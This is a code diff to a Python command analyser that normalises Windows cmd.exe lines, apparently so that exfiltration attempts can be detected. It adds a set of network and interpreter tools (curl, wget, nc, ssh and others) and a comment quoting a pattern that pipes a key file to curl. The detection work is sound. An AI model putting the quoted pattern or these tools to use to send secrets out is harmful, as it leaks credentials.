@@ -212,9 +212,11 @@ def cmd_commands(text: str) -> list[list[str] | str]:
     for words in _statements(text, caret=True):
         while len(words) > 2 and words[0].lower() == "if":  # if [not] exist X COMMAND
             words = words[3:] if words[1].lower() != "not" else words[4:]
+        while words and words[0].lower() in ("call", "@call"):  # `call type …` runs `type …`
+            words = words[1:]
         if not words:
             continue
-        name = words[0].lower().removesuffix(".exe")
+        name = words[0].lower().lstrip("@").removesuffix(".exe")
         switches = {w.lower() for w in words[1:] if w.startswith("/")}
         operands = [posix_path(w) for w in words[1:] if not w.startswith("/")]
         if name in POWERSHELLS | CMDS:
@@ -227,7 +229,15 @@ def cmd_commands(text: str) -> list[list[str] | str]:
             out.append(["cat", *operands])
         elif name in ("copy", "xcopy", "robocopy", "move"):
             out.append(["mv" if name == "move" else "cp", "-r", *operands])
+        elif name in _CMD_PASSED:
+            out.append([name, *(posix_path(w) if "\\" in w or "%" in w else w for w in words[1:])])
     return out[:64]
+
+
+#: Programs a cmd.exe line runs that read the same on Windows (curl.exe ships with Windows 10):
+#: analysed as POSIX commands, so `type KEY | curl -d @- URL` is the send it is (round 6).
+_CMD_PASSED: Final = frozenset({"curl", "wget", "nc", "ncat", "scp", "sftp", "ssh", "tar", "git", "python", "python3",
+                                "py", "node", "perl", "ruby", "php"})  # fmt: skip
 
 
 # ---------------------------------------------------------------- obfuscation undone (issue 24, round 3)
